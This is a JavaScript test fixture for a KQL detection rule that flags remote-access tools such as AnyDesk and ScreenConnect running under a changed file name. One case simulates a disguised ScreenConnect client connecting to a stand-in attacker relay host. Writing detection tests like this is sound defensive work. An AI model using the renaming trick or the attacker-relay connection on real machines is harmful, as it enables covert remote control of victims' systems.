// SPDX-License-Identifier: MIT
// renamed-binaries.kql: the original name is listed, the file's is not.
'use strict';

function renamed(proves, original, name, rows, rest, approvals) {
	return { proves, query: 'renamed-binaries', approvals,
		groups: { d1: 'Helpdesk', d2: 'Finance' },
		events: { DeviceProcessEvents: [{ FileName: name,
			ProcessVersionInfoOriginalFileName: original, ...rest }].flat() },
		rows };
}

const hit = { Tool: 'AnyDesk', Process: 'anydesk.exe', FileName: 'svc.exe' };

module.exports = [
	renamed('another name alerts', 'AnyDesk.exe', 'svc.exe', [hit]),
	renamed('the same name in another case is none', 'AnyDesk.EXE',
		'anydesk.exe', []),
	renamed('an original name without extension is the same', 'AnyDesk',
		'AnyDesk.exe', []),
	renamed('and found under another', 'AnyDesk', 'svc.exe', [hit]),
	renamed('nor does that of a language file count', 'AnyDesk.exe.MUI',
		'AnyDesk.exe', []),
	renamed('but another name does', 'AnyDesk.exe.mui', 'svc.exe', [hit]),
	renamed('another listed name is found by that', 'AnyDesk.exe',
		'TeamViewer.exe', []),
	renamed('a name of low fidelity counts as not listed', 'AnyDesk.exe',
		'agent.exe', [{ Tool: 'AnyDesk', FileName: 'agent.exe' }]),
	renamed('an original name of low fidelity is left out', 'agent.exe',
		'svc.exe', []),
	renamed('another extension is another name', 'AnyDesk.exe', 'AnyDesk.scr',
		[{ Tool: 'AnyDesk', FileName: 'AnyDesk.scr' }]),
	renamed('a numbered download is another name', 'AnyDesk.exe',
		'AnyDesk (1).exe', [{ Tool: 'AnyDesk' }]),
	renamed('an original name that is not listed is none', 'notepad.exe',
		'svc.exe', []),
	renamed('nor is one that begins so', 'AnyDesk.exe2', 'svc.exe', []),
	renamed('no original name, no hit', '', 'svc.exe', []),
	renamed('what a file of one name is called is one row', 'AnyDesk.exe',
		'svc.exe', [{ ...hit, Events: 2, FileNames: ['svc.exe'] }],
		{ ago: 60 }),
	renamed('events before the time looked at are left out', 'AnyDesk.exe',
		'svc.exe', [], { ago: 13 * 3600 }),
	renamed('the approved relay is silent', 'ScreenConnect.ClientService.exe',
		'svc.exe', [], { ProcessCommandLine:
			'svc.exe "?e=Access&y=Guest&h=relay.corp.example&p=443"' },
		[{ tool: 'ScreenConnect', host: 'relay.corp.example' }]),
	renamed('another relay alerts', 'ScreenConnect.ClientService.exe',
		'svc.exe', [{ Tool: 'ScreenConnect' }], { ProcessCommandLine:
			'svc.exe "?e=Access&y=Guest&h=relay.attacker.example&p=443"' },
		[{ tool: 'ScreenConnect', host: 'relay.corp.example' }]),
	renamed('the approved department is silent', 'AnyDesk.exe', 'svc.exe', [],
		{}, [{ device_group: 'Helpdesk' }]),
	renamed('and the others are not', 'AnyDesk.exe', 'svc.exe', [hit],
		{ DeviceId: 'd2' }, [{ device_group: 'Helpdesk' }]),
];

const twice = module.exports.find((t) => t.rows[0] && t.rows[0].Events === 2);
twice.events.DeviceProcessEvents.push({ FileName: 'svc.exe', ago: 30,
	ProcessVersionInfoOriginalFileName: 'AnyDesk.exe' });
